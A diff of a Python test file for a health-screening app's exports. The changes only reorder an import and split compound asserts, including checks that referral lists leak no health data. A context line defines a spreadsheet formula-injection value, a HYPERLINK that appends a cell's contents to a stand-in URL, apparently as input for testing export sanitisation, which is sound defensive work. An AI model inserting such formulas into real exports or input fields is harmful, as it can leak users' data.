@@ -14,8 +14,8 @@ from screening.clock import now_iso, today_wib
 from screening.demo.screenings import HEALTHY
 from screening.questionnaire import Result
 from screening.store import consent as consent_store
-from screening.store import responses
 from screening.store import referrals as referral_store
+from screening.store import responses
 from tests.pdf.conftest import WORST_ANSWERS
 
 FORMULA_NAME = '=HYPERLINK("http://x"&F2,"Buka")'
@@ -112,7 +112,8 @@ def test_the_chase_list_holds_who_has_not_screened_per_tps_with_link_and_whatsap
     for link, whatsapp in zip(
         column(rows, "Tautan pribadi"), column(rows, "Kirim via WhatsApp"), strict=True
     ):
-        assert link.startswith("http") and "/s/" in link
+        assert link.startswith("http")
+        assert "/s/" in link
         assert whatsapp.startswith("https://wa.me/6281234567890?text=")
     logged = exports_logged(db)
     assert logged[-1]["subject"] == "officers:unscreened"
@@ -221,7 +222,8 @@ def test_the_referrals_list_shows_where_each_stands_and_no_health_data(
     health += [f.title.msgid for f in result.red_flags]
     assert health
     assert [h for h in health if h.strip() and h in text] == []
-    assert "berisiko" not in text and "tinggi" not in text
+    assert "berisiko" not in text
+    assert "tinggi" not in text
 
 
 def test_the_referrals_list_without_an_area_covers_the_city(client, sign_in, db, officers):
